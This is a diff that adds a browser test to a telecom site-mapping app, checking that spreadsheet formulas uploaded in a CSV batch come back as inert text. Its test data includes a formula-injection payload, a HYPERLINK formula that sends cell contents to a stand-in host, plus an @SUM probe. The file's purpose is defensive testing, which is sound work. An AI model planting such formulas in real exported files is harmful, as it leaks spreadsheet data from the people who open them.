@@ -124,6 +124,25 @@ test('a carrier uploads a batch, watches it go through and downloads the results
   await context.close();
 });
 
+test('a site code written as a formula comes back as text in the results file, not as a live formula', async () => {
+  const { page, context } = await openMap(browser, api.url);
+  await signIn(page, api.keys.Viettel);
+  await page.click('[data-tab="submissions"]');
+  const csv = ['carrier,site_code,lon,lat,pole_class,height_m,camouflaged,shares_site_id',
+    'Viettel,"=HYPERLINK(""http://example.com/?leak""&A1,""x"")",107.0800,20.9500,A1a,12,no,',
+    'Viettel,@SUM(1+1),107.0810,20.9510,A1a,12,no,'].join('\n');
+  const file = join(mkdtempSync(join(tmpdir(), 'telecomgis-batch-')), 'formulas.csv');
+  writeFileSync(file, csv);
+  await page.setInputFiles('form.upload input[type="file"]', file);
+  await page.click('form.upload button[type="submit"]');
+  await page.waitForSelector('.progress[data-state="done"]', { timeout: 30_000 });
+  const [download] = await Promise.all([page.waitForEvent('download'), page.click('.download-csv')]);
+  const lines = readFileSync(await download.path(), 'utf8').split('\r\n');
+  assert.equal(lines[1].split(',')[1], `"'=HYPERLINK(""http://example.com/?leak""&A1`);
+  assert.equal(lines[2].split(',')[1], "'@SUM(1+1)");
+  await context.close();
+});
+
 test('commune search ignores diacritics and opens the commune\'s figures; the tablet layout stacks the panel', async () => {
   const { page, context } = await openMap(browser, api.url, { tablet: true });
   await page.fill('#commune-search', 'hai hoa');
